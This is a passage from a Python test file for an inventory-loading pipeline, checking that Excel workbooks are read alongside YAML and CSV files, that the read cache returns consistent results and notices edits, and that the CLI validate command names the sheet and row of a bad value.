        copy = Path(tmp) / "inv" / "register.xlsx"
        copy.parent.mkdir()
        copy.write_bytes(path.read_bytes())
        back = pipeline.read(copy.parent, cache=False)
    assert view(back) == shown_view(batch)


# -- the inventory loader and its cache ---------------------------------------------------


def test_a_workbook_beside_yaml_and_csv_and_the_cache(tmp_path: Path, acme: GraphBatch) -> None:
    folder = tmp_path / "inv"
    examples.write("acme", folder)
    risks = [n for n in acme.nodes if n.label == "Risk"]
    (folder / "risks.csv").unlink()
    # what risks.csv wrote, some of it from the end (risk_of: the system has the risk)
    written = tuple(r for r in acme.relationships if r.source.file == "risks.csv")
    assert any(r.end in {n.id for n in risks} for r in written)
    only = GraphBatch(tuple(risks), written)
    export(only, folder / "risks.xlsx")
    files, problems = read_inventory.files(folder)
    assert problems == [] and "risks.xlsx" in {f.relative for f in files}
    cold = pipeline.read(folder, cache=False)
    assert view(cold) == view(acme)
    warm1 = pipeline.read(folder)
    warm2 = pipeline.read(folder)
    assert view(warm1) == view(warm2) == view(cold)
    assert {n.source for n in warm2.nodes} == {n.source for n in cold.nodes}
    # an edited workbook is read again
    wb = load_workbook(folder / "risks.xlsx")
    wb["risks"].cell(row=2, column=2, value="Renamed")
    wb.save(folder / "risks.xlsx")
    edited = {n.id: n.name for n in pipeline.read(folder).nodes}
    assert "Renamed" in edited.values()


def test_validate_names_the_workbook_sheet_and_row(tmp_path: Path) -> None:
    path = book(
        tmp_path / "inv" / "r.xlsx",
        {"risks": [["id", "name", "level"], ["r1", "Drift", "extreme"]]},
    )
    code, _, err = run_cli("validate", str(path.parent))
    assert code == 1
    assert f"{path}!risks:2: level: 'extreme' is not allowed" in err
    assert "nothing was loaded" in err
